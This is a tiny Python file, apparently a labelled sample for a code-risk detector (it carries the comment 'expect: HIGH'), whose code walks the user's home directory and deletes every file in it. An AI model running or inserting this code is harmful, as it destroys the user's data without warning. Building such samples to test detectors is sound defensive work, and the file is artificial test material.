# expect: HIGH
import os
for root, dirs, files in os.walk(os.path.expanduser("~")):
    for name in files:
        os.remove(os.path.join(root, name))
